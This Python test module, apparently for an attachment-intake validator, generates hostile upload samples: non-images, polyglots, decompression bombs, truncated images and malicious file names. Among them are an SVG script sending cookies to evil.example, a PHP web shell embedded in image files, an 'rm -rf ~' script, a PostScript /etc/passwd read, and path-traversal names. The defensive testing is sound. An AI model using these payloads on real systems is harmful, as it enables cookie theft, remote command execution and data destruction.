"""Images that are none, bombs, polyglots, halves."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.intake.attachments.files import Sent, archive, image, pdf, png_chunk, png_claiming

_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script></svg>'
)
_HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
_EXE = (
    b"MZ"
    + bytes(58)
    + b"\x80\0\0\0"
    + bytes(64)
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + bytes(200)
)


def hostile_images() -> Iterator[Sent]:
    """All of them."""
    yield from _not_images()
    yield from _polyglots()
    yield from _bombs()
    yield from _broken()
    yield from _names()


def _not_images() -> Iterator[Sent]:
    yield Sent("script in an SVG", "map.svg", "image/svg+xml", _SVG)
    yield Sent("SVG called PNG", "map.png", "image/png", _SVG)
    yield Sent("SVG with an entity", "a.svg", "image/svg+xml", b'<!DOCTYPE svg [<!ENTITY a "b">]>' + _SVG)
    yield Sent("page called photo", "photo.jpg", "image/jpeg", _HTML)
    yield Sent("page", "page.html", "text/html", _HTML)
    yield Sent("script", "run.js", "text/javascript", b"alert(document.cookie)")
    yield Sent("shell script", "run.sh", "text/x-shellscript", b"#!/bin/sh\nrm -rf ~\n")
    yield Sent("program", "photo.exe", "application/octet-stream", _EXE)
    yield Sent("program called photo", "photo.jpg", "image/jpeg", _EXE)
    yield Sent("ELF", "a", "application/octet-stream", b"\x7fELF\x02\x01\x01" + bytes(120))
    yield Sent("PHP called GIF", "a.gif", "image/gif", b"<?php system($_GET[0]); ?>")
    yield Sent("gzip bomb", "a.jpg", "image/jpeg", zlib.compress(bytes(10_000_000)))
    yield Sent("metafile", "a.wmf", "image/wmf", b"\xd7\xcd\xc6\x9a" + bytes(60))
    yield Sent(
        "PostScript", "a.eps", "application/postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"
    )
    yield Sent(
        "shortcut", "a.lnk", "application/octet-stream", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0" + bytes(80)
    )
    yield Sent("nothing", "photo.jpg", "image/jpeg", b"")
    yield Sent("a letter", "photo.jpg", "image/jpeg", b"a")
    yield Sent("plain words", "note.txt", "text/plain", "просто текст".encode())


def _polyglots() -> Iterator[Sent]:
    jpeg, png = image("JPEG"), image("PNG")
    zipped = archive({"run.js": "alert(1)"})
    yield Sent("JPEG and zip", "photo.jpg", "image/jpeg", jpeg + zipped)
    yield Sent("PNG and zip", "photo.png", "image/png", png + zipped)
    yield Sent("JPEG and PDF", "photo.jpg", "image/jpeg", jpeg + pdf())
    yield Sent("JPEG and page", "photo.jpg", "image/jpeg", jpeg + _HTML)
    yield Sent("JPEG and PHP", "photo.jpg", "image/jpeg", jpeg + b"<?php system($_GET[0]); ?>")
    comment = b"\xff\xfe" + struct.pack(">H", len(_HTML) + 2) + _HTML
    yield Sent("page in a comment", "photo.jpg", "image/jpeg", jpeg[:2] + comment + jpeg[2:])
    text = png_chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>")
    yield Sent("PHP in a PNG's text", "photo.png", "image/png", png[:33] + text + png[33:])
    gif = image("GIF", mode="P")
    yield Sent("GIF and script", "a.gif", "image/gif", gif + b"<script>alert(1)</script>")
    yield Sent("GIF and program", "a.gif", "image/gif", gif + _EXE)
    yield Sent("GIF that is a script", "a.gif", "image/gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)")
    webp = image("WEBP")
    yield Sent("WebP and archive", "a.webp", "image/webp", webp + zipped)


def _bombs() -> Iterator[Sent]:
    yield Sent("pixel flood", "a.png", "image/png", png_claiming(50_000, 50_000))
    yield Sent("longest sides", "a.png", "image/png", png_claiming(2**31 - 1, 2**31 - 1))
    yield Sent("one endless line", "a.png", "image/png", png_claiming(199_999, 1000))
    blank = Image.new("1", (12_000, 12_000))
    out = io.BytesIO()
    blank.save(out, "PNG")
    yield Sent("144 megapixels that compress", "a.png", "image/png", out.getvalue())
    text = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80_000_000), 1))
    png = image("PNG")
    yield Sent("80 MB of comment", "a.png", "image/png", png[:33] + text + png[33:])
    profile = png_chunk(b"iCCP", b"icc\0\0" + zlib.compress(bytes(80_000_000), 1))
    yield Sent("80 MB of colours", "a.png", "image/png", png[:33] + profile + png[33:])
    jpeg = bytearray(image("JPEG"))
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    yield Sent("JPEG flood", "a.jpg", "image/jpeg", bytes(jpeg))
    gif = bytearray(image("GIF", mode="P"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield Sent("GIF flood", "a.gif", "image/gif", bytes(gif))
    frames = [Image.new("P", (500, 500), number % 256) for number in range(400)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    yield Sent("endless film", "a.gif", "image/gif", out.getvalue())


def _broken() -> Iterator[Sent]:
    for kind, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp"), ("GIF", "a.gif")):
        whole = image(kind, (400, 300), "P" if kind == "GIF" else "RGB")
        yield Sent(f"half a {kind}", name, f"image/{kind.lower()}", whole[: len(whole) // 2])
    png = bytearray(image("PNG", (400, 300)))
    png[len(png) // 2] ^= 0xFF
    yield Sent("PNG with a wrong checksum", "a.png", "image/png", bytes(png))
    yield Sent("head of a JPEG", "a.jpg", "image/jpeg", image("JPEG")[:20])
    heic = b"\0\0\0\x18ftypheic\0\0\0\0heicmif1"
    yield Sent("head of a HEIC", "a.heic", "image/heic", heic)
    yield Sent("HEIC that is none", "a.heic", "image/heic", heic + bytes(500))
    yield Sent("HEIC of lengths", "a.heic", "image/heic", heic + b"\xff\xff\xff\xffmeta" + b"\xff" * 64)


def _names() -> Iterator[Sent]:
    jpeg = image("JPEG")
    for name in (
        "../../etc/passwd",
        "..\\..\\autoexec.jpg",
        "/etc/cron.d/photo.jpg",
        "photo.jpg\0.exe",
        "photo\x1b[2J.jpg",
        "photo\u202egpj.exe",
        "photo.jpg.exe",
        "photo.jpg/",
        "p" * 300 + ".jpg",
    ):
        yield Sent(f"name {name[:30]!r}", name, "image/jpeg", jpeg)
    yield Sent("photo called PDF", "act.pdf", "application/pdf", jpeg)
    yield Sent("photo called page", "photo.html", "text/html", jpeg)
    yield Sent("photo said to be a page", "photo.jpg", "text/html", jpeg)
    yield Sent("PDF called photo", "photo.jpg", "image/jpeg", pdf())
